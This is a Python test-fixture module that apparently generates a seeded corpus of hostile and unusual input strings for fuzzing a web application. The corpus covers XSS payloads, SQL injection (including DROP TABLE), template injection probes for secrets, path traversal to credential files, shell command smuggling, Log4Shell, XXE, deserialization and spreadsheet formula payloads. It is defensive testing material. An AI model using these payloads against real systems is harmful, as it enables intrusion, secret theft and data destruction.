"""More than a thousand strings that mean harm or only look odd, by kind. Made here, and the same in every run."""

import random
import unicodedata
from collections.abc import Iterable
from itertools import product
from typing import NamedTuple

MARK = "window.__hit=1"
"""What every active string tries to do."""


class Hostile(NamedTuple):
    """A string, and of what kind it is."""

    kind: str
    text: str


def _each(written: str) -> tuple[str, ...]:
    """The strings of a text, with the escapes of Python, parted by the sign of currency and by lines."""
    parts = (part for line in written.strip("\n").split("\n") for part in line.split(" ¤ "))
    return tuple(part.encode("latin-1", "backslashreplace").decode("unicode_escape") for part in parts)


def _around(signs: Iterable[str], *frames: str) -> tuple[str, ...]:
    return tuple(frame.replace("*", sign) for sign in signs for frame in frames)


BREAKOUTS = _each(r"""
\x20 ¤ "> ¤ '> ¤ --> ¤ </textarea> ¤ </title> ¤ </script> ¤ </style> ¤ ]]> ¤ \\'\\"> ¤ </option></select>
""")
ELEMENTS = _each(r"""
<script>{act}</script> ¤ <script src=data:text/javascript,{act}></script> ¤ <img src=x onerror={act}>
<svg onload={act}> ¤ <svg><script>{act}</script></svg> ¤ <body onload={act}>
<details open ontoggle={act}><summary>a</summary></details> ¤ <input autofocus onfocus={act}>
<iframe srcdoc='<script>parent.{act}</script>'></iframe> ¤ <iframe src="javascript:parent.{act}"></iframe>
<video><source onerror={act}></video> ¤ <math><a xlink:href=javascript:{act}>a</a></math>
<style onload={act}></style> ¤ <object data=javascript:{act}></object>
<form action=javascript:{act}><button autofocus>a</button></form> ¤ <a href=javascript:{act}>a</a>
<base href=javascript:/> ¤ <meta http-equiv=refresh content='0;url=javascript:{act}'>
<template><script>{act}</script></template>
""")
ATTRIBUTES = _each(r"""
" onmouseover="{act}" a=" ¤ ' onfocus='{act}' autofocus a=' ¤ ` onclick=`{act}`
" style="animation-name:a" onanimationstart="{act}
""")
SPLIT = _each(r"""
<scr<script>ipt>{act}</scr</script>ipt> ¤ <sCrIpT>{act}</ScRiPt> ¤ <script\x09>{act}</script >
<img/src=x/onerror={act}> ¤ &lt;script&gt;{act}&lt;/script&gt; ¤ %3Cscript%3E{act}%3C/script%3E
＜script＞{act}＜/script＞ ¤ <script\x00>{act}</script> ¤ \\u003cscript\\u003e{act}
&#60;script&#62;{act}&#60;/script&#62; ¤ <!--<script>{act}</script>--> ¤ <![CDATA[<script>{act}</script>]]>
+ADw-script+AD4-{act}+ADw-/script+AD4- ¤ <script/{act} ¤ <<script>{act}//<</script> ¤ {act}//</script>
""")
SCHEMES = _each(r"""
javascript:{act} ¤ JaVaScRiPt:{act} ¤ \x20javascript:{act} ¤ \x09javascript:{act} ¤ java\x09script:{act}
java\x0ascript:{act} ¤ javascript&colon;{act} ¤ javascript&#58;{act} ¤ \x01javascript:{act}
javascript://a.example/%0a{act} ¤ data:text/html,<script>{act}</script>
data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+ ¤ data:image/svg+xml,<svg onload='{act}'/> ¤ vbscript:msgbox(1)
feed:javascript:{act} ¤ view-source:javascript:{act} ¤ blob:null/{act} ¤ file:///etc/passwd ¤ ｊavascript:{act}
https://a.example/" onclick="{act} ¤ https:javascript:{act} ¤ //a.example/{act} ¤ jar:https://a.example!/
https://user:pass@a.example/ ¤ https://[::1 ¤ http://a.example:99999999/ ¤ mailto:a@b.example?bcc=c@d.example
tel:<script> ¤ https://xn--/ ¤ https://a.example/%00 ¤ http:// ¤ :// ¤ https://ä.example/ö?å=<
""")
TEMPLATES = _each(r"""
{{ 7|add:7 }} ¤ {{ request.user.password }} ¤ {% debug %} ¤ {% load static %}{% csrf_token %}
{{ settings.SECRET_KEY }} ¤ {% include 'base.html' %} ¤ {# a #} ¤ {{ ''.__class__.__mro__ }} ¤ {{7*7}}
{{constructor.constructor('{act}')()}} ¤ {%raw%} ¤ ${{7*7}} ¤ ${act} ¤ #{7*7} ¤ <%= 7*7 %> ¤ <?php echo 7; ?>
<?xml version='1.0'?> ¤ {0.__class__} ¤ {a!r:{width}} ¤ %(secret)s ¤ %s%s%n%x ¤ %1$s ¤ $secret ${secret}
[[${7*7}]] ¤ {{#each}} ¤ {php}{/php} ¤ @(7*7) ¤ *{7*7} ¤ ~{a::b} ¤ `${7}` ¤ {{ ¤ }} ¤ {% ¤ %} ¤ {{{{ ¤ {%%} ¤ {{ a|
% ¤ %% ¤ %( ¤ { ¤ } ¤ {} ¤ {a ¤ !{7}
""")
CALENDAR = _each(r"""
BEGIN:VEVENT ¤ END:VCALENDAR ¤ a\x0aBEGIN:VALARM\x0aACTION:AUDIO\x0aEND:VALARM ¤ a\\nEND:VEVENT ¤ a;b,c:d
DTSTART;TZID=Europe/Helsinki:20270328T033000 ¤ \\;\\,\\N ¤ ATTENDEE;CN="a":mailto:a@b.test ¤ RRULE:FREQ=SECONDLY
äääääääääääääääääääääääääääääääääääää\x0d\x0a x ¤ ATTACH:javascript:{act}
METHOD:CANCEL\x0d\x0aUID:1 ¤ \x0d\x0a\x09DESCRIPTION:a
""")
LETTERS = _each(r"""
Čââʹlčaja Ǩeârdd ¤ Äʹvv lij jeäʹl ¤ šââdd’tet ¤ Kååʹtt da žannâ ¤ Ǥǥ Ǧǧ Ǩǩ Ʒʒ Ǯǯ Đđ Ŋŋ ¤ Davvisámegiella: čáđŋšŧž
Anarâškielâ: äččŋšž ¤ Šžõäåö ŠŽÕÄÅÖ ¤ þæöð ÞÆÖÐ ¤ ßẞ ¤ ıİiI ¤ ﬁ ﬂ ﬃ ¤ Ǆ ǅ ǆ ¤ ſ ¤ Ω Ω ¤ K K ¤ Å Å ¤ µ μ ¤ ½ ² ³ ¹
٠١٢٣ ¤ १२३ ¤ 𝟘𝟙𝟚 ¤ Ｆｕｌｌ ｗｉｄｔｈ ¤ ａｄｍｉｎ ¤ аdmin ¤ ΑΒΓ ¤ 日本語テキスト ¤ 한국어 ¤ 中文字元 ¤ ไทยไม่เว้นวรรค
தமிழ் ¤ हिन्दी ¤ አማርኛ
Tiếng Việt ¤ Ελληνικά ¤ Кириллица ¤ עברית ¤ العربية ¤ ﷺ ¤ 𠜎𠜱 ¤ 𓀀𓂀 ¤ ǈubav ¤ naïve café ¤ ½ kg ¤ № ™ © ® ‰
“tavu” ’n’ ‘b’ „c“ «d» ¤ – — ― ‐ ‑ − ¤ … ‥
""")
NAMES = _each(r"""
O'Neill ¤ Null ¤ NULL ¤ null ¤ None ¤ undefined ¤ NaN ¤ True ¤ false ¤ nil ¤ Test ¤ d’Alba ¤ de la Cruz-Örn ¤ Ng ¤ Å
van 't Zand ¤ Aino--Aava ¤ N/A ¤ - ¤ . ¤ .. ¤ _ ¤ 0 ¤ 00 ¤ 1 ¤ -1 ¤ () ¤ [] ¤ {} ¤ admin ¤ root ¤ CON
PRN.txt ¤ aux ¤ NUL ¤ Aino'); DROP TABLE people;-- ¤ me@ ¤ @ ¤ # ¤ ? ¤ & ¤ / ¤ \\ ¤ * ¤ ~ ¤ ^ ¤ | ¤ ' ¤ " ¤ ` ¤ ´
¨ ¤ < ¤ > ¤ </ ¤ <! ¤ <a ¤ a>b ¤ a<b ¤ &amp; ¤ &amp;lt; ¤ &nbsp; ¤ &#0; ¤ &#xD800; ¤ &copy ¤ &; ¤ %20 ¤ + ¤ a+b
a%2Bb ¤ a=b&c=d ¤ key[]=1
""")
PATHS = _each(r"""
../../../../etc/passwd ¤ ..\\..\\windows\\win.ini ¤ ....//....//etc/passwd ¤ %2e%2e%2fetc%2fpasswd ¤ %252e%252e%252f
/etc/passwd ¤ C:\\boot.ini ¤ \\\\paha.test\\jako ¤ file\x00.pdf ¤ a.php;.jpg ¤ ..%c0%af.. ¤ ~root/.ssh ¤ /dev/null
/proc/self/environ ¤ .htaccess ¤ .git/config ¤ a/../b ¤ ./a ¤ a//b ¤ aux.pdf ¤ a:b ¤ a?b#c ¤ a%00b ¤ ％２ｅ ¤ ．．／
a\u2215b ¤ |ls ¤ ; ls -la ¤ $(ls) ¤ `ls` ¤ && ls ¤ > /tmp/a ¤ $IFS ¤ ${jndi:ldap://paha.test/a} ¤ () { :; }; ls
*)(uid=* ¤ xpath' or '1'='1 ¤ <!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>
!!python/object/apply:os.system ['ls'] ¤ cos\x0asystem\x0a(S'ls'\x0atR. ¤ O:8:"stdClass":0:{} ¤ {"$ne": null}
{"__proto__": {"a": 1}} ¤ __proto__ ¤ constructor ¤ toString ¤ hasOwnProperty ¤ __class__ ¤ _state ¤ pk ¤ id
password__startswith ¤ user__password__contains ¤ a__b__c ¤ on ¤ __all__ ¤ form-TOTAL_FORMS ¤ csrfmiddlewaretoken
""")
MARKUP = _each(r"""
# otsikko ¤ **lihava** ¤ [a](javascript:{act}) ¤ ![a](x) ¤ > lainaus ¤ ```\x0aa\x0a```
| a | b |\x0a|---|---| ¤ - [ ] a ¤ <b>a</b> ¤ <p>a</p> ¤ <br> ¤ <h1>a ¤ <table><tr><td>a ¤ </body></html>
</div></main> ¤ <embed embedtype="image" id="1"/> ¤ <a linktype="page" id="1">a</a>
<a linktype="document" id="../1">a</a> ¤ <p data-block-key='a'> ¤ <marquee>a ¤ <blink> ¤ <plaintext> ¤ <xmp>
<noscript><p title="</noscript><img src=x onerror={act}>"> ¤ @import 'a' ¤ a{color:red}
/* a */ ¤ // a ¤ \\section{a} ¤ #set page(width: 1pt) ¤ $x^2$ ¤ &&& ¤ <<<>>> ¤ ]]><![CDATA[
""")
ASKED = _each(r"""
" ¤ "lapsi ¤ laps* ¤ * ¤ AND ¤ OR NOT ¤ NEAR(a b) ¤ title:lapsi ¤ +a -b ¤ a & b | !c ¤ (a ¤ a) ¤ a:* ¤ <-> ¤ a <2> b
^a ¤ {a b} ¤ \\ ¤ 'a' ¤ a''b ¤ - ¤ --a ¤ a OR ¤ NOT ¤ a\\ ¤ %% ¤ _% ¤ ~a ¤ a~2 ¤ [a TO b] ¤ /a/ ¤ a?b*c
""")
NUMBERS = _each(r"""
1e309 ¤ -1e309 ¤ Infinity ¤ -Infinity ¤ NaN ¤ 0x1F ¤ 0b1 ¤ 1_000 ¤ ٣ ¤ ² ¤ Ⅷ ¤ 9999999999999999999
-9223372036854775809 ¤ 1.7976931348623157e309 ¤ 0.1e-400 ¤ 1,5 ¤ 1 000 ¤ −5 ¤ +1 ¤ 01 ¤ 1. ¤ .1 ¤ 1/0 ¤ 2147483648
31.2.2027 ¤ 29.2.2027 ¤ 32.13.2027 ¤ 0.0.0 ¤ 1.1.99999 ¤ 0001-01-01 ¤ 9999-12-31 ¤ 10000-01-01 ¤ -0001-01-01
2027-03-28T03:30 ¤ 24.00 ¤ 99.99 ¤ 00000000-0000-0000-0000-000000000000 ¤ {00000000-0000-0000-0000-000000000000}
urn:uuid:00000000000000000000000000000000 ¤ 000000000000000000000000000000000
""")
EMOJI = _each(r"""
🙂 ¤ 👩\u200d👩\u200d👧\u200d👦 ¤ 🏳\ufe0f\u200d🌈 ¤ 👍🏿 ¤ 🇫🇮 ¤ 🇫
🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f ¤ 1\ufe0f⃣ ¤ ❤\ufe0f ¤ ☺︎ ¤ 🫥🪷🫱🏼\u200d🫲🏿
🤷🏻\u200d♀\ufe0f ¤ e\u20dd ¤ 🀄 ¤ 👁\ufe0f\u200d🗨\ufe0f ¤ ⌨\ufe0f ¤ ✈︎✈\ufe0f
""")

QUERIES = _each(r"""
; DROP TABLE network_theme; -- ¤ \x20OR '1'='1 ¤ \x20UNION SELECT NULL,NULL-- ¤ \x20AND SLEEP(5)# ¤ /**/OR/**/1=1
||pg_sleep(5)-- ¤ )) OR 1=1 LIMIT 1 --
""")
FORMULAS = _each(r"""
1+1 ¤ cmd|' /C calc'!A0 ¤ HYPERLINK("https://a.example?"&A1;"a") ¤ SUM(A1:A9)*cmd|' /C calc'!A0
""")
BEGINNINGS = _each(r"""
= ¤ + ¤ - ¤ @ ¤ \t= ¤ \r= ¤ \n= ¤ \x20= ¤ ＝ ¤ ＋ ¤ － ¤ ＠ ¤ ;= ¤ ,= ¤ "= ¤ '= ¤ \ufeff= ¤ \u200b= ¤ |
""")
HEADERS = (
    "Set-Cookie: a=b",
    "Bcc: vieras@paha.test",
    "Location: https://paha.test/",
    "",
    f"\r\n<script>{MARK}</script>",
)
ENDS = ("\r\n", "\n", "\r", "\u2028", "\u0085", "\x0b", "%0d%0a", "\\r\\n")
CONTROLS = [chr(number) for number in (*range(32), *range(127, 160))]
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\u115f\u2800\u00a0\u2003\u3000\ufe0f\u17b4"
HALVES = ("\ud800", "\udfff", "\ud83d", "\udc00\ud800", "\udcff", "\ud800" * 30)
NO_LETTERS = [
    chr(number) for number in (0xFDD0, 0xFFFE, 0xFFFF, 0x10FFFF, 0xE000, 0xF8FF, 0xE0001, 0x378, 0xFFF9, 0xFFFD)
]
MARKS = "".join(chr(0x300 + number) for number in range(112))
STACKS = ("a" + "\u0301" * 100, "e\u0301" * 200, "\u0301a", "\u0489" * 50, f"o{MARKS}", "ก" + "็" * 60, "क्षि" * 30)
SMALL_FORMS = ("äöå ÄÖÅ", "šžčŋ", "Ǩeârdd Äʹvv", "ệ", "한글", "ﬁnaali ½")
LONG = (
    "a" * 3_000,
    "ä" * 254,
    "ä" * 255,
    "ä" * 256,
    "🙂" * 255,
    "W" * 2_600,
    "pitkä" * 2_000,
    "sana " * 20_000,
    "9" * 400,
)
SLOW = (
    *(
        sign * 2_000
        for sign in ("<", "&", "[", "(", "%", "-", "\t", "\n", " ", "\u200b", "9", "a@", "a.", "%25", "<b>", "0-")
    ),
    *(
        '{"a":' * 500,
        "+358 " * 300,
        f"{'a' * 2_000}@b.test",
        f"https://{'a.' * 1_000}test",
        f"{' ' * 3_000}a",
        "9" * 5_000,
    ),
)
HUGE = ("a" * 1_000_000, "ä 🙂 " * 200_000, " ".join(f"sana{number}" for number in range(110_000)), "\r\n" * 400_000)
"""About a megabyte each."""

KINDS: dict[str, tuple[str, ...]] = {
    "elements": tuple(breakout.strip(" ") + element for breakout, element in product(BREAKOUTS, ELEMENTS)),
    "attributes": ATTRIBUTES,
    "split": SPLIT,
    "schemes": SCHEMES,
    "templates": TEMPLATES,
    "queries": _around(QUERIES, "*", "'*", '"*', "')*", "1*", "\\'*", "%27*"),
    "formulas": tuple(beginning + formula for beginning, formula in product(BEGINNINGS, FORMULAS)),
    "lines": tuple(f"a{end}{line}" for end, line in product(ENDS, HEADERS)),
    "calendar": CALENDAR,
    "bidi": _around(BIDI, "*abc", "a*bc* (123)", "nimi*fdp.exe"),
    "invisible": _around(INVISIBLE, "***a*", "*"),
    "controls": _around(CONTROLS, "a*b", "*"),
    "halves": _around(HALVES, "*", "a*", f"<b>*{MARK}"),
    "no letters": _around(NO_LETTERS, "a*b", "*"),
    "emoji": (*EMOJI, "🙂" * 99),
    "letters": LETTERS,
    "forms": tuple(
        unicodedata.normalize(form, text) for form in ("NFC", "NFD", "NFKC", "NFKD") for text in SMALL_FORMS
    ),
    "stacks": STACKS,
    "names": NAMES,
    "paths": PATHS,
    "markup": MARKUP,
    "asked": ASKED,
    "numbers": NUMBERS,
    "long": LONG,
    "slow": SLOW,
    "huge": HUGE,
}
ACTIVE = ("elements", "attributes", "split", "schemes", "templates", "markup")
"""Kinds whose strings do something where they are taken for more than text."""


def corpus() -> list[Hostile]:
    """Every string once."""
    found = {text.replace("{act}", MARK): kind for kind, texts in KINDS.items() for text in texts}
    return [Hostile(kind, text) for text, kind in found.items()]


def some(share: float, seed: int = 13) -> list[Hostile]:
    """A seeded share of the strings of every kind, at least one of each."""
    chance, found = random.Random(seed), []
    for kind in KINDS:
        own = [hostile for hostile in corpus() if hostile.kind == kind]
        found += chance.sample(own, max(1, round(share * len(own))))
    return found


def active(count: int, seed: int = 13) -> list[str]:
    """Seeded strings that would be seen if a browser ran them."""
    found = [hostile.text for hostile in corpus() if hostile.kind in ACTIVE and MARK in hostile.text]
    return random.Random(seed).sample(found, count)
